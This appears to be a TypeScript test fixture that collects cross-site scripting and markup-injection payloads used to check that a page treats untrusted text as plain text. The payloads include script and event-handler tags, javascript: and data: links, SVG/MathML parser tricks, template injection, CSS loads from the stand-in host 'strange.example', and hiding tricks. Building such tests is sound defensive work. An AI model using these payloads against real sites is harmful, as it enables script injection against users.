/** Host that no page may ever contact. */
export const strangeHost = 'strange.example'

const run = 'window.attacked=1'
const longest = 'Donaudampfschiff'.repeat(12)

/**
 * Texts that would run, load, frame, restyle or widen something if a page took them for more than text. Those that would hide
 * the others come last.
 */
const attacks: readonly string[] = [
  // Elements that run or load.
  `<script>${run}</script>`,
  `<img src=x onerror="${run}">`,
  `<img src="//${strangeHost}/pixel.gif">`,
  `<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>`,
  `<object data="data:text/html,1"></object><embed src="//${strangeHost}/e">`,
  `<form action="https://${strangeHost}/"><button formaction="javascript:${run}">b</button></form>`,
  `<meta http-equiv=refresh content="0;url=https://${strangeHost}"><base href="https://${strangeHost}/">`,
  `<details open ontoggle=alert(1)><video><source onerror=alert(1)></video></details>`,
  // SVG, MathML and texts that parsers read in two ways.
  `<svg onload="${run}"><animate onbegin=alert(1)><use href="data:image/svg+xml,1#x"/></svg>`,
  `<math><mtext><table><mglyph><style><img src onerror=${run}></style></mglyph></table></mtext></math>`,
  // Links.
  `<a href="javascript:${run}">a</a><a href="data:text/html,<script>1</script>">a</a>`,
  `[x](javascript:${run}) [x](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)> [x](//${strangeHost}/ "onclick=alert(1)")`,
  `![x](https://${strangeHost}/pixel.png) ![x](data:image/svg+xml,1)`,
  // Ways out of attributes, styles, templates and entities.
  `" autofocus onfocus="${run}" x="' onmouseover='alert(1)`,
  `<p style="position:fixed;background:url(//${strangeHost}/css)">p</p>; background: url(//${strangeHost}/css)`,
  `{{constructor.constructor('${run}')()}} \${${run}}`,
  `&lt;img src=x onerror=alert(1)&gt; &#60;svg/onload=alert(1)&#62;`,
  // Invisible signs, an open change of direction, and a word without a place to break it.
  `\u0001\u007f\ufeff\u200b\u2028 __proto__ \u202egnirts\u2066`,
  longest,
  // Everything after them would be hidden.
  `<template><img src=x onerror=alert(1)></template><!-- --!><img src=x onerror=alert(1)> <!--`,
  `<style>*{background:url(//${strangeHost}/css)}</style><textarea></textarea><img title="`,
]

/** All attacks on one line, as names and titles hold them. */
export const attackLine = attacks.join(' ')

/** All attacks as paragraphs, as long texts hold them. */
export const attackText = attacks.join('\n\n')
